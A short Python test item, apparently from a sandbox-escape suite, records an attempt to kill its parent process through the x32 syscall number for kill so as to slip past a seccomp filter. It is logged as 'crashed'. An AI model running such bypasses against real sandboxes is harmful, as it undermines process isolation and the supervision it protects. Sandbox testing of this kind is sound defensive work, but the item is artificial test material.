# trick: kills its parent by a number of the x32 interface
# outcome: crashed
# layer: seccomp
# machine: x86_64
import ctypes

ctypes.CDLL(None).syscall(0x40000000 + 62, int("$parent"), 15)
